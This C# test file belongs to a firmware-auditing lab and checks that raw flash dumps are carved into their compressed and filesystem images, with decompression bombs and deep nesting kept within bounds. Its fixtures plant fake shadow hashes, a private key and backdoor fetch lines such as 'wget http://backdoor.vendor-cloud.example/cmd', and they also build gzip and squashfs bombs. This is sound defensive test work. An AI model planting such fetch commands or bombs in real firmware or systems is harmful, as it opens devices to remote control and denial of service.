using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using Iris.Lab.Firmware;
using Iris.Lab.Tests.Support;

namespace Iris.Lab.Tests.Firmware;

/// <summary>Raw flash dumps: images are found by signature at any offset and unpacked, within bounds that a bomb cannot pass.</summary>
public sealed class FlashCarvingTests : IDisposable
{
    private const int KernelOffset = 0x10000;
    private readonly TempDirectory dir = new();

    public void Dispose() => dir.Dispose();

    [Fact]
    public async Task RawFlashDump_IsCarved_AndSecretsInItsSquashfsAtAnOddOffsetAndInItsKernelAreFound()
    {
        var (flash, squashfsOffset) = Flash();

        using var run = await LabRun.AuditAsync("127.0.0.1", "1", [new FirmwareProbe()], null, "--firmware", flash);

        run.AssertFinding("5.4.1.1", "Secret or undeclared endpoint in an unencrypted firmware image");
        var evidence = run.Evidence("5.4.1.1");
        Assert.Contains($"flash.bin@0x{squashfsOffset:x}.squashfs/etc/shadow", evidence, StringComparison.Ordinal);
        Assert.Contains($"flash.bin@0x{squashfsOffset:x}.squashfs/etc/ssl/server.key", evidence, StringComparison.Ordinal);
        // uImage header, then its gzip payload, then the URL inside the kernel.
        Assert.Contains($"flash.bin@0x{KernelOffset:x}.uimage@0x0.gzip", evidence, StringComparison.Ordinal);
        Assert.Contains("backdoor.vendor-cloud.example", evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void RawFlashDump_ListsEachImageAtItsOffset()
    {
        var (flash, squashfsOffset) = Flash();
        Assert.True(squashfsOffset % 2 == 1);

        var result = FlashCarver.Carve(flash, dir.File("scratch"), CarveLimits.Default);

        Assert.Contains(result.Pieces, p => p.StartsWith($"flash.bin@0x{KernelOffset:x}.uimage: UImage", StringComparison.Ordinal));
        Assert.Contains(result.Pieces, p => p.StartsWith($"flash.bin@0x{KernelOffset:x}.uimage@0x0.gzip: Gzip", StringComparison.Ordinal));
        Assert.Contains(result.Pieces, p => p == $"flash.bin@0x{squashfsOffset:x}.squashfs: Squashfs with 3 files");
        Assert.Empty(result.Limits);
        Assert.False(result.InputOpened);
    }

    [Fact]
    public async Task GzipBomb_StopsAtTheBound_AndLeavesTheItemInconclusive()
    {
        // 64 MiB of zeros compress to about 64 KiB; the bound is 8 MiB.
        var flash = dir.File("bomb.bin");
        using (var file = File.Create(flash))
        {
            file.Write(FlashImages.Bootloader(4096));
            using (var gzip = new GZipStream(file, CompressionLevel.Optimal, leaveOpen: true))
            {
                var zeros = new byte[1 << 20];
                for (var i = 0; i < 64; i++)
                {
                    gzip.Write(zeros);
                }
            }

            file.Write(FlashImages.Padding(4096));
        }

        var limits = new CarveLimits(8 << 20, 8, 100);
        var scratch = dir.File("scratch");
        var result = FlashCarver.Carve(flash, scratch, limits);

        var limit = Assert.Single(result.Limits);
        Assert.StartsWith("bomb.bin@0x1000.gzip: Gzip stream decompresses to more than the 8388608 bytes of the unpacking bound", limit, StringComparison.Ordinal);
        Assert.True(BytesUnder(scratch) <= limits.MaxBytes, $"{BytesUnder(scratch)} bytes left in scratch");

        using var run = await LabRun.AuditAsync("127.0.0.1", "1", [new FirmwareProbe(limits)], null, "--firmware", flash);
        Assert.Equal("inconclusive", run.Verdict("5.4.1.1"));
        Assert.Contains("decompression bomb", run.Evidence("5.4.1.1"), StringComparison.Ordinal);
    }

    [Fact]
    public void SquashfsClaimingMoreThanTheBound_IsNotUnpacked_AndIsReported()
    {
        var tree = dir.File("bomb-root");
        Directory.CreateDirectory(tree);
        using (var zeros = File.Create(Path.Combine(tree, "zeros")))
        {
            zeros.SetLength(64 << 20);
        }

        var image = FlashImages.Squashfs(dir, tree);
        Assert.True(image.Length < 1 << 20);
        var flash = dir.File("sqbomb.bin");
        File.WriteAllBytes(flash, [.. FlashImages.Bootloader(4096), .. image, .. FlashImages.Padding(4096)]);

        var scratch = dir.File("scratch");
        var result = FlashCarver.Carve(flash, scratch, new CarveLimits(8 << 20, 8, 100));

        var limit = Assert.Single(result.Limits);
        Assert.Contains("sqbomb.bin@0x1000.squashfs: its files add up to 67108864 bytes", limit, StringComparison.Ordinal);
        Assert.True(BytesUnder(scratch) < 8 << 20);
    }

    [Fact]
    public void ImagesNestedDeeperThanTheBound_AreReported_AndAnImageContainingItselfIsExaminedOnce()
    {
        var data = Encoding.UTF8.GetBytes("deepest layer\n");
        for (var i = 0; i < 6; i++)
        {
            data = FlashImages.Gzip(data);
        }

        var deep = dir.File("deep.bin");
        File.WriteAllBytes(deep, [.. FlashImages.Bootloader(512), .. data]);
        var deepResult = FlashCarver.Carve(deep, dir.File("scratch-deep"), new CarveLimits(8 << 20, 3, 100));
        Assert.Contains(deepResult.Limits, l => l.EndsWith("images nested deeper than 3 levels, not unpacked", StringComparison.Ordinal));

        // The same gzip twice (an A/B layout): the second copy's content is not unpacked a second time.
        var twice = dir.File("ab.bin");
        var kernel = FlashImages.Gzip(Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("kernel text ", 1000))));
        File.WriteAllBytes(twice, [.. FlashImages.Bootloader(512), .. kernel, .. FlashImages.Padding(333), .. kernel]);
        var abResult = FlashCarver.Carve(twice, dir.File("scratch-ab"), CarveLimits.Default);
        Assert.Empty(abResult.Limits);
        Assert.Contains(abResult.Pieces, p => p.Contains("the same bytes as a piece already examined", StringComparison.Ordinal));
    }

    [Fact]
    public async Task LzmaXzCpioTarAndBzip2PiecesAtOddOffsets_AreEachUnpacked_AndScanned()
    {
        byte[] Text(string host) => Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("service config line\n", 200)) + $"wget http://{host}/x\n");
        var lzma = Compress(Text("lzma.vendor-cloud.example"), "--format=lzma");
        var cpio = Compress(Cpio(("etc/init.d/S50report", Text("cpio.vendor-cloud.example"))), "--format=xz");
        var tar = Tar(("etc/tar.conf", Text("tar.vendor-cloud.example")));
        var bzip2 = Bzip2(Text("bzip2.vendor-cloud.example"));
        var flash = dir.File("mixed.bin");
        File.WriteAllBytes(flash, [.. FlashImages.Bootloader(0x1001), .. lzma, .. FlashImages.Padding(0x101), .. cpio, .. FlashImages.Padding(0x77),
            .. tar, .. FlashImages.Padding(0x33), .. bzip2, .. FlashImages.Padding(0x1000)]);

        var result = FlashCarver.Carve(flash, dir.File("scratch"), CarveLimits.Default);
        using var run = await LabRun.AuditAsync("127.0.0.1", "1", [new FirmwareProbe()], null, "--firmware", flash);

        Assert.Contains(result.Pieces, p => p.StartsWith("mixed.bin@0x1001.lzma: Lzma", StringComparison.Ordinal));
        Assert.Contains(result.Pieces, p => p.Contains(".xz@0x0.cpio: Cpio with 1 files", StringComparison.Ordinal));
        Assert.Contains(result.Pieces, p => p.Contains(".tar: Tar with 1 files", StringComparison.Ordinal));
        Assert.Contains(result.Pieces, p => p.Contains(".bzip2: Bzip2", StringComparison.Ordinal));
        var evidence = run.Evidence("5.4.1.1");
        foreach (var host in new[] { "lzma", "cpio", "tar", "bzip2" })
        {
            Assert.Contains($"{host}.vendor-cloud.example", evidence, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Jffs2AndUbiImages_AreFoundOnce_AndLeaveTheItemInconclusive_NotPassed()
    {
        // 200 JFFS2 inode nodes (little-endian magic 0x1985, type 0xE002) and 200 UBI erase-block headers.
        var jffs2 = Enumerable.Range(0, 200).SelectMany(_ => (byte[])[0x85, 0x19, 0x02, 0xE0, .. new byte[60]]).ToArray();
        var ubi = Enumerable.Range(0, 200).SelectMany(_ => (byte[])[.. "UBI#"u8.ToArray(), 1, .. new byte[123]]).ToArray();
        var flash = dir.File("nand.bin");
        File.WriteAllBytes(flash, [.. FlashImages.Bootloader(0x1000), .. jffs2, .. FlashImages.Padding(0x100), .. ubi]);

        var result = FlashCarver.Carve(flash, dir.File("scratch"), CarveLimits.Default);
        using var run = await LabRun.AuditAsync("127.0.0.1", "1", [new FirmwareProbe()], null, "--firmware", flash);

        Assert.Equal(["nand.bin@0x1000.jffs2: JFFS2 image, not unpacked (no reader in this lab): its files were not examined",
            $"nand.bin@0x{0x1000 + jffs2.Length + 0x100:x}.ubi: UBI image, not unpacked (no reader in this lab): its files were not examined"], result.NotUnpacked);
        Assert.Equal("inconclusive", run.Verdict("5.4.1.1"));
        Assert.Contains("JFFS2 image, not unpacked", run.Evidence("5.4.1.1"), StringComparison.Ordinal);
    }

    private byte[] Compress(byte[] data, string format)
    {
        var path = dir.File($"piece-{Guid.NewGuid():N}");
        File.WriteAllBytes(path, data);
        FlashImages.Run("xz", format, "--keep", "--suffix=.out", path);
        return File.ReadAllBytes(path + ".out");
    }

    private static byte[] Bzip2(byte[] data)
    {
        using var output = new MemoryStream();
        using (var bzip2 = SharpCompress.Compressors.BZip2.BZip2Stream.Create(output, SharpCompress.Compressors.CompressionMode.Compress, false, leaveOpen: true))
        {
            bzip2.Write(data);
        }

        return output.ToArray();
    }

    private static byte[] Tar(params (string Name, byte[] Content)[] files)
    {
        using var output = new MemoryStream();
        using (var tar = new System.Formats.Tar.TarWriter(output, System.Formats.Tar.TarEntryFormat.Ustar, leaveOpen: true))
        {
            foreach (var (name, content) in files)
            {
                tar.WriteEntry(new System.Formats.Tar.UstarTarEntry(System.Formats.Tar.TarEntryType.RegularFile, name) { DataStream = new MemoryStream(content) });
            }
        }

        return output.ToArray();
    }

    /// <summary>cpio "newc", as an initramfs is written: 110-byte ASCII headers, names and data padded to 4 bytes, a trailer.</summary>
    private static byte[] Cpio(params (string Name, byte[] Content)[] files)
    {
        using var output = new MemoryStream();
        void Entry(string name, int mode, byte[] content)
        {
            var fields = new[] { 1, mode, 0, 0, 1, 0, content.Length, 0, 0, 0, 0, name.Length + 1, 0 };
            output.Write(Encoding.ASCII.GetBytes("070701" + string.Concat(fields.Select(f => f.ToString("X8", System.Globalization.CultureInfo.InvariantCulture)))));
            output.Write(Encoding.ASCII.GetBytes(name + "\0"));
            output.Write(new byte[(4 - (output.Length % 4)) % 4]);
            output.Write(content);
            output.Write(new byte[(4 - (output.Length % 4)) % 4]);
        }

        foreach (var (name, content) in files)
        {
            Entry(name, 0x81A4, content);
        }

        Entry("TRAILER!!!", 0, []);
        return output.ToArray();
    }

    /// <summary>Boot loader, a uImage kernel (gzip, with an undeclared URL in it), 0xFF padding to an odd offset, a squashfs root with secrets, padding.</summary>
    private (string Path, long SquashfsOffset) Flash()
    {
        using var rsa = RSA.Create(2048);
        var rootfs = FlashImages.Tree(dir, "rootfs", new Dictionary<string, byte[]>
        {
            ["etc/shadow"] = Encoding.UTF8.GetBytes("root:$6$rounds=5000$saltsalt$" + new string('A', 86) + ":19000:0:99999:7:::\n"),
            ["etc/ssl/server.key"] = Encoding.UTF8.GetBytes(rsa.ExportPkcs8PrivateKeyPem()),
            ["usr/share/doc/readme.txt"] = Encoding.UTF8.GetBytes("camera firmware\n"),
        });
        var squashfs = FlashImages.Squashfs(dir, rootfs);
        var kernelText = new StringBuilder("Linux version 5.10.0 (builder@vendor) #1 SMP\n");
        for (var i = 0; i < 2000; i++)
        {
            kernelText.Append("init: starting service ").Append(i).Append('\n');
        }

        kernelText.Append("wget http://backdoor.vendor-cloud.example/cmd\n");
        var kernel = FlashImages.UImage(FlashImages.Gzip(Encoding.UTF8.GetBytes(kernelText.ToString())), "Linux-5.10.0");
        var gap = 0x1235;
        var squashfsOffset = KernelOffset + kernel.Length + gap;
        if (squashfsOffset % 2 == 0)
        {
            gap++;
            squashfsOffset++;
        }

        var path = dir.File("flash.bin");
        File.WriteAllBytes(path, [.. FlashImages.Bootloader(KernelOffset), .. kernel, .. FlashImages.Padding(gap), .. squashfs, .. FlashImages.Padding(0x10000)]);
        return (path, squashfsOffset);
    }

    private static long BytesUnder(string path) => Directory.Exists(path)
        ? new DirectoryInfo(path).EnumerateFiles("*", SearchOption.AllDirectories).Sum(f => f.Length)
        : 0;
}
